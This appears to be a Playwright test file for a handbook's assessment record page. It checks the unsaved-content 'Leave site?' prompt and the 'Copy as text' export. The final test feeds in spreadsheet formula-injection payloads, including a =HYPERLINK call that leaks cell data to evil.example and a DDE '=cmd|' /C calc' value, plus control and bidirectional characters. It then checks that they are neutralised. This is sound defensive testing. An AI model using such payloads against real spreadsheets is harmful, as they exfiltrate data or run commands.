"""A record that is not lost by accident, through the shipped nginx: the browser's "Leave
site?" prompt only while there is unsaved content, and "Copy as text"."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from tests.browser.test_record import (
    HEADER,
    NOTE,
    PRINT_STUB,
    RECORD,
    STAGE2,
    STAGE3,
    fill_record,
    http_urls,
    in_record,
    save,
    source_line,
)
from tests.site.reading import CHECKLISTS, items, nav


@pytest.fixture
def tab(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(
        viewport={"width": 1280, "height": 900},
        permissions=["clipboard-read", "clipboard-write"],
        service_workers="block",  # the offline copy has tests of its own
    )
    context.add_init_script(PRINT_STUB)
    yield context
    context.close()


def asks_before_closing(page: Page) -> bool:
    """Close the tab as a reader would; whether the browser asked "Leave site?" first.

    The question is answered "Stay", so a tab that asked is still open afterwards.
    """
    asked: list[str] = []

    def stay(dialog: Dialog) -> None:
        asked.append(dialog.type)
        dialog.dismiss()

    page.on("dialog", stay)
    waiter = page.context.new_page()  # to wait on while the tab closes (or asks)
    page.close(run_before_unload=True)
    waiter.wait_for_timeout(700)
    waiter.close()
    page.remove_listener("dialog", stay)
    assert asked in ([], ["beforeunload"])
    assert page.is_closed() is not bool(asked)
    return bool(asked)


def opened(context: BrowserContext, url: str) -> Page:
    page = context.new_page()
    page.goto(url, wait_until="networkidle")
    page.locator("h1").click()  # the reader has used the page (the browser asks only then)
    return page


def test_leaving_asks_only_while_there_is_unsaved_content(
    tab: BrowserContext,
    nginx: str,
    tmp_path: Path,
) -> None:
    url = http_urls(nginx)
    stage2 = url(CHECKLISTS[STAGE2]["page"])
    # Nothing entered: no question, on the record or on a guidance page.
    assert not asks_before_closing(opened(tab, url(RECORD)))
    assert not asks_before_closing(opened(tab, stage2))

    # A tick on a guidance page: closing asks; following a link in the handbook does not
    # (a question would have been answered "Stay" and the page would not have moved).
    page = opened(tab, stage2)
    page.locator("section.hb-checklist input[type=checkbox]").first.check()
    assert asks_before_closing(page)
    page.get_by_role("link", name="Assessment record").first.click()
    page.wait_for_load_state("networkidle")
    assert page.url.endswith("/assessment/record/")
    assert asks_before_closing(page)  # the record holds it too, unsaved
    save(page, tmp_path)
    assert not asks_before_closing(page)  # saved to a file: nothing to lose

    # Reloading asks too (the content is still there after it); printing is saving.
    page = opened(tab, url(RECORD))
    page.get_by_label("Assessor", exact=True).fill("A. Assessor")
    asked: list[str] = []

    def leave(dialog: Dialog) -> None:
        asked.append(dialog.type)
        dialog.accept()

    page.once("dialog", leave)
    page.reload(wait_until="networkidle")
    assert asked == ["beforeunload"]
    expect(page.get_by_label("Assessor", exact=True)).to_have_value("A. Assessor")
    page.locator("h1").click()
    assert asks_before_closing(page)
    page.get_by_role("button", name="Print record").click()
    page.pdf()  # the print dialogue: beforeprint and afterprint
    assert not asks_before_closing(page)

    # Typed and deleted again, or cleared: nothing to lose.
    page = opened(tab, url(RECORD))
    page.get_by_label("Agency", exact=True).fill("Northshire YOT")
    page.get_by_label("Agency", exact=True).fill("")
    assert not asks_before_closing(page)
    page = opened(tab, url(RECORD))
    in_record(page, STAGE3).locator("input[type=checkbox]").first.check()
    assert asks_before_closing(page)
    page.get_by_role("button", name="Clear all").click()
    page.get_by_role("button", name="Yes, clear all").click()
    assert not asks_before_closing(page)


def expected_text(stamp: str, sources: dict[str, str]) -> list[str]:
    """The record fill_record leaves, as the lines "Copy as text" gives (the last one aside):
    each checklist used with its introductions, its items' notes and its Source line."""
    ticked = {STAGE2: {items(STAGE2)[1]["id"]}, STAGE3: {items(STAGE3)[0]["id"]}}
    position = {src: i for i, src in enumerate(nav())}
    order = sorted(CHECKLISTS, key=lambda cid: position[CHECKLISTS[cid]["page"]])
    lines = ["Assessment record", ""]
    lines += [f"{label}: {value}" for label, value in HEADER.items()]
    for cid in order:
        if cid not in ticked:
            continue
        data = CHECKLISTS[cid]
        lines += ["", data["title"], f"{len(ticked[cid])} of {len(items(cid))} covered"]
        lines += [data["intro"]] if data.get("intro") else []
        for number, section in enumerate(data["sections"]):
            lines += ["", section["title"]]
            lines += [section["intro"]] if section.get("intro") else []
            for item in section["items"]:
                state = "Covered" if item["id"] in ticked[cid] else "Not covered"
                lines.append(f"{state}: {item['text']}")
                lines += [f"Note: {item['note']}"] if item.get("note") else []
            if cid == STAGE3 and number == 0:
                lines += [f"Notes: {section['title']}", NOTE]
        lines += ["", sources[cid]]
    lines += ["", "Checklists not used"]
    lines += [f"{CHECKLISTS[cid]['title']}: not used" for cid in order if cid not in ticked]
    return [*lines, "", f"Copied … {stamp}"]


def test_copy_as_text_puts_the_printed_records_content_on_the_clipboard(
    tab: BrowserContext,
    nginx: str,
) -> None:
    page = fill_record(tab, http_urls(nginx))
    stamp = page.locator("[data-record]").get_attribute("data-stamp") or ""
    assert "Handbook version" in stamp
    page.get_by_role("button", name="Copy as text").click()
    message = page.locator(".hb-record__message")
    expect(message).to_contain_text("Copied the record to the clipboard as text.")
    expect(message).to_contain_text("2 checklists used")
    expect(message).to_contain_text("It contains case information")
    text = page.evaluate("navigator.clipboard.readText()")
    assert "<" not in text.replace(NOTE, "")  # no markup of the page's own
    lines = [" ".join(line.split()) for line in text.rstrip("\n").split("\n")]
    last = lines.pop()
    sources = {cid: source_line(page, cid) for cid in (STAGE2, STAGE3)}
    expected = [" ".join(line.split()) for line in expected_text(stamp, sources)]
    assert lines == expected[:-1]
    assert re.fullmatch(r"Copied \d{1,2} \w+ \d{4} at \d{2}:\d{2}\. " + re.escape(stamp), last)
    # Copying is not saving: closing still asks.
    assert asks_before_closing(page)


# Typed into a note: formulas a spreadsheet would run, and characters that hide or reorder
# text (ESC, BEL, NUL, a tab that would start a new cell, bidirectional overrides).
HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")\n'
    "+1+2\n"
    "-2+3\n"
    "@SUM(1)\n"
    "  =1+1\n"
    "＝1+1\n"
    "ok\tthen=cmd\r\n"
    "bell\x07 nul\x00 esc\x1b[31m red\n"
    "\u202eevil\u202c \u2066iso\u2069 \u200fmark"
)
SAFE = [
    '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "'+1+2",
    "'-2+3",
    "'@SUM(1)",
    "'  =1+1",
    "'＝1+1",
    "ok then=cmd",
    "bell nul esc[31m red",
    "evil iso mark",
]


def test_copy_as_text_is_inert_in_a_spreadsheet(tab: BrowserContext, nginx: str) -> None:
    """Copied text has no control or bidirectional characters and no line a spreadsheet
    would run as a formula (an apostrophe before it), and the page says so by the button."""
    page = opened(tab, http_urls(nginx)(RECORD))
    hint = page.locator(".hb-record__hint")
    expect(hint).to_be_visible()
    expect(hint).to_contain_text("apostrophe")
    page.get_by_label("Agency", exact=True).fill("=cmd|' /C calc'!A0")
    notes = in_record(page, STAGE3).locator("textarea").first
    notes.evaluate(
        "(box, text) => { box.value = text; box.dispatchEvent(new Event('input', {bubbles: true})); }",
        HOSTILE,
    )
    page.get_by_role("button", name="Copy as text").click()
    expect(page.locator(".hb-record__message")).to_contain_text("Copied the record")
    text: str = page.evaluate("navigator.clipboard.readText()")
    lines = text.split("\n")
    at = lines.index(SAFE[0])
    assert lines[at : at + len(SAFE)] == SAFE
    assert "Agency: =cmd|' /C calc'!A0" in lines
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200e\u200f]", text)
    assert all(not re.match(r"\s*[=+\-@＝＋－＠]", line) for line in lines)
